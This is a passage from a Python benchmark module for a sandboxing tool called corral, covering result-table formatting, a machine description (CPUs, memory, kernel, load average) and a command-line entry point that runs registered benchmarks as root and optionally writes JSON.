# --- output -------------------------------------------------------------------------------------


def _fmt(value: float, unit: str) -> str:
    digits = 3 if abs(value) < 10 else 1 if abs(value) < 1000 else 0
    return f"{value:.{digits}f} {unit}"


def _cell(r: Result, m: Measure | None) -> str:
    if m is None:
        return "-"
    if m.n == 1:
        return _fmt(r.value(m), r.unit)
    stat = "" if r.headline == "median" else "mean "
    return f"{stat}{_fmt(r.value(m), r.unit)} (p90 {_fmt(m.p90, '').strip()})"


def _compare(r: Result) -> str:
    if r.baseline is None or r.delta is None:
        return "-"
    ratio = f"{r.ratio:.2f}x" if r.ratio is not None else "-"
    if r.target.kind == "max_delta":
        return f"{r.delta:+.3f} {r.unit}, {ratio}"
    return f"{ratio}, {r.delta:+.3f} {r.unit}"


def format_table(results: Sequence[Result]) -> str:
    header = ("what", "corral median (p90)", "baseline median (p90)", "ratio / delta", "target", "met?")
    rows = [header]
    for r in results:
        base = _cell(r, r.baseline)
        if r.baseline_name and r.baseline is not None:
            base = f"{base} {r.baseline_name}"
        met = {True: "yes", False: "NO", None: "-"}[r.met]
        rows.append((r.what, _cell(r, r.corral), base, _compare(r), r.target.text, met))
    widths = [max(len(row[i]) for row in rows) for i in range(len(header))]
    lines = ["  ".join(cell.ljust(w) for cell, w in zip(row, widths, strict=True)).rstrip() for row in rows]
    lines.insert(1, "  ".join("-" * w for w in widths))
    for r in results:
        if r.notes:
            lines.append(f"  {r.key}: " + ", ".join(f"{k}={v}" for k, v in r.notes.items()))
    return "\n".join(lines)


@dataclass(frozen=True)
class Machine:
    cpus: int | None
    memory_mib: int
    kernel: str
    python: str
    bwrap: str | None
    loadavg: tuple[float, float, float]  # at the end of the run: others' load skews the numbers

    @classmethod
    def here(cls) -> Machine:
        one, five, fifteen = os.getloadavg()
        return cls(
            cpus=os.cpu_count(),
            memory_mib=psutil.virtual_memory().total // MIB,
            kernel=platform.release(),
            python=platform.python_version(),
            bwrap=shutil.which("bwrap"),
            loadavg=(round(one, 2), round(five, 2), round(fifteen, 2)),
        )

    def describe(self) -> str:
        load = " ".join(f"{x:.2f}" for x in self.loadavg)
        return (
            f"corral bench: {self.cpus} CPUs, {self.memory_mib} MiB, kernel {self.kernel}, "
            f"Python {self.python}; load average {load} (1/5/15 min, at the end)"
        )


# --- entry --------------------------------------------------------------------------------------


def _parser() -> argparse.ArgumentParser:
    p = argparse.ArgumentParser(prog="python -m corral.bench", description=__doc__.split("\n\n")[0])
    p.add_argument("--runs", type=int, help="timed runs per row (default: 200 warm, 50 cold; --quick: 10/5)")
    p.add_argument(
        "--idle", type=int, help="idle sandboxes to open for the memory rows (default 100; 0 skips)"
    )
    p.add_argument("--json", metavar="PATH", help="also write the results as JSON to PATH")
    p.add_argument("--quick", action="store_true", help="few runs and short settling, for tests")
    p.add_argument(
        "--only", action="append", choices=list(_REGISTRY), help="run just this benchmark (repeatable)"
    )
    return p


def main(argv: list[str] | None = None) -> int:
    args = _parser().parse_args(None if argv is None else [os.fspath(a) for a in argv])
    if os.geteuid() != 0:
        print("corral.bench: must run as root (sandboxes need namespaces, cgroups, mounts)", file=sys.stderr)
        return 2
    cfg = Config(
        warm_runs=args.runs or (10 if args.quick else 200),
        cold_runs=args.runs or (5 if args.quick else 50),
        idle=args.idle if args.idle is not None else (5 if args.quick else 100),
        warmup=2 if args.quick else 10,
        settle=0.2 if args.quick else 2.0,
        quick=args.quick,
    )
    results: list[Result] = []
    errors: dict[str, str] = {}
    for name, fn in _REGISTRY.items():
        if args.only and name not in args.only:
            continue
        try:
            results += fn(cfg)
        except Exception as e:
            errors[name] = f"{type(e).__name__}: {e}"
            _progress(f"{name} failed: {errors[name]}")
    machine = Machine.here()
    print(machine.describe())
    print(format_table(results))
    for name, err in errors.items():
        print(f"FAILED {name}: {err}")
    if args.json:
        with open(args.json, "w") as f:
            json.dump(
                {
                    "machine": asdict(machine),
                    "config": asdict(cfg),
                    "results": [r.to_json() for r in results],
                    "errors": errors,
                },
                f,
                indent=2,
            )
            f.write("\n")
    return 1 if errors else 0


if __name__ == "__main__":
    sys.exit(main())
